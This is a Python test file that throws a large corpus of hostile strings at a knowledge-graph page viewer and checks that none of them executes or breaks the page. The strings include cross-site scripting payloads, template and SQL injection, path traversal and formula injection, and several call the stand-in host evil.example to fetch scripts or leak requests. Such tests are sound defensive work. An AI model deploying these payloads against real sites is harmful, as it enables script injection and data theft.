"""Text of an article is hostile: a corpus of strings that try to run, to fetch, or to break the page, in every place that text reaches."""

from dataclasses import replace
from itertools import product

import pytest

from kg.model import Article, Entity, Extraction, Mention, Span, Statement, Utterance, Value
from kg.view import Answer, page
from kg.view.characters import readable

_DEEDS = ("window.pwned=1", "document.title='pwned'", "fetch('http://evil.example/')", "import('http://evil.example/x.js')")

_WRAPS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "<!--<script>{}</script>",
    "]]><script>{}</script>",
    "</textarea><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT >{}</SCRIPT\t>",
    "<script\x00>{}</script>",
    "<script/src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src='x'/onerror=\"{}\"/>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<math><mtext></p><img src=x onerror={}></mtext></math>",
    "<body onload={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="data:text/html,<script>{}</script>">',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}",
    "` onclick=`{}",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    '"}}];{};//',
    '\\"}};{};//',
    "';{};//",
    "</script\n>{}",
    "\u2028{}\u2029",
    "{{{{ {} }}}}",
    "{{% set x = '{}' %}}",
    "{{{{ ''.__class__.__mro__ }}}}{}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    'constructor.constructor("{}")()',
    '<base href="http://evil.example/">{}',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
)

_SINGLE = (
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='http://evil.example/a 1x'>",
    "<video poster=http://evil.example/p><source src=http://evil.example/v></video>",
    '<p style="background:url(http://evil.example/b)">',
    "url('http://evil.example/')",
    "expression(alert(1))",
    "<form action=http://evil.example/><button>send</button></form>",
    '<a href="http://evil.example/" ping="http://evil.example/ping">x</a>',
    "<table><tr><td></table></div></section></main></body></html>",
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<template><script>window.pwned=1</script></template>",
    "<select><option>",
    "<!doctype html><html>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "\u202egnp.exe",
    "\u2066\u2067right\u2069",
    "\ufeffmark",
    "a\u0300\u0301\u0302\u0303" * 20,
    "\ud800 alone",
    "\udfff alone",
    "😀" * 80,
    "\x01\x02\x03\x1b[31mred",
    "line\rreturn\nfeed",
    "tab\tbed",
    "x" * 5000,
    "=1+1",
    "@SUM(A1)",
    "-2+3",
    "' OR 1=1 --",
    "../../etc/passwd",
    "C:\\con\\nul",
    "#st_0000000000",
    "#name",
    "&amp;&lt;&#x0;",
    "&#13;",
    "&NotEqualTilde;",
    "<b>bold</b>",
    "“quoted” ‘words’",
    "   ",
)

CORPUS = tuple(dict.fromkeys([*(wrap.format(deed) for wrap, deed in product(_WRAPS, _DEEDS)), *_SINGLE]))


def _hostile() -> Extraction:
    """One extraction that carries the whole corpus in text, labels, other names, IRIs, links, values, rules and speakers."""
    text = "".join(f"{words}\n\n" for words in CORPUS)
    starts = [text.index(f"{words}\n\n") for words in CORPUS]
    spans = [Span(start, start + len(words)) for start, words in zip(starts, CORPUS, strict=True)]
    types = ("Person", "Company", "City", "Event", "Observation", "Topic", "<img src=x onerror=window.pwned=1>")
    entities = tuple(
        Entity(f"urn:{words}", types[at % len(types)], words, (words, f"{words}!"), (f"http://x/{words}", words), (words,))
        for at, words in enumerate(CORPUS)
    )
    statements = tuple(
        Statement(
            entity.id,
            ("worksFor", "value", words)[at % 3],
            (entities[at - 1].id, Value(words, "decimal"), Value(words, "string"), Value(words, "date"))[at % 4],
            (span,),
            asserted_by=entities[at - 2].id,
            confidence=0.5,
            rule=words,
        )
        for at, (entity, words, span) in enumerate(zip(entities, CORPUS, spans, strict=True))
    )
    return Extraction(
        Article(text, CORPUS[0], CORPUS[1], CORPUS[2], CORPUS[3], 'https://x/"><script>window.pwned=1</script>'),
        f"urn:{CORPUS[4]}",
        tuple(spans),
        entities,
        tuple(Mention(span, entity.id, "name") for span, entity in zip(spans, entities, strict=True)),
        statements,
        tuple(Utterance(f"urn:{words}", at % 2 == 0, entities[at].id, (spans[at],)) for at, words in enumerate(CORPUS)),
        entities[5].id,
    )


def test_the_corpus_is_large():
    assert len(CORPUS) >= 200


@pytest.mark.browser
def test_nothing_of_the_corpus_runs_or_breaks_the_page(opened):
    hostile = _hostile()
    answers = [Answer(words, (words, words), ((words, f"urn:{words}"),)) for words in CORPUS]
    shown = opened(
        page([hostile], answers=answers, turtle="".join(CORPUS), jsonld="".join(CORPUS)), name="<img src=x onerror=alert(1)>.html"
    )
    title = shown.title()
    for selector in ("#tabs a", ".chip", "#viewtools button", "#theme", "#communities"):
        shown.eval_on_selector_all(selector, "(all) => all.forEach((one) => one.click())")
    # the longest of them are chosen too often to wait for each by hand
    shown.eval_on_selector_all(
        "[data-thing], [data-fact], [data-speech]", "(all) => all.filter((one, at) => at % 7 === 0).forEach((one) => one.click())"
    )

    assert readable(CORPUS[1]) == title == shown.title()
    assert shown.evaluate("window.pwned") is None
    assert len(hostile.statements) == shown.evaluate("document.querySelectorAll('tr[data-row]').length")
    assert [readable(words) or "urn:" for words in CORPUS] == shown.evaluate(
        "Object.values(JSON.parse(document.getElementById('data').textContent).things).map((thing) => thing.label)"
    )
    assert 0 == shown.evaluate(
        "document.querySelectorAll('main script, main img:not(#still), iframe, object, embed, form, base, link').length"
    )


@pytest.mark.browser
def test_every_span_of_the_corpus_highlights_its_words(opened):
    hostile = _hostile()
    shown = opened(page([hostile]))

    assert page([hostile]) == page([hostile])
    assert len(shown.evaluate("Array.from(document.querySelector('.text').textContent)")) == len(hostile.article.text)


@pytest.mark.browser
@pytest.mark.parametrize(
    "words",
    ["<img src=x onerror=alert(1)>", "javascript:alert(1)", "thing=__proto__", "st_0%00", "tab=<script>", "q=</script>", "%", "off=%22%3E"],
)
def test_a_hostile_address_changes_nothing(opened, harbour, words):
    shown = opened(page([harbour]), fragment=f"#{words}")

    assert "A school by the sea" == shown.title()
    assert shown.is_hidden("#card")


@pytest.mark.browser
def test_hostile_search_words_stay_words(opened, harbour):
    shown = opened(page([replace(harbour, publisher="")]))
    for words in CORPUS[:40]:
        shown.fill("#search", words.replace("\x00", ""))

    assert "A school by the sea" == shown.title()
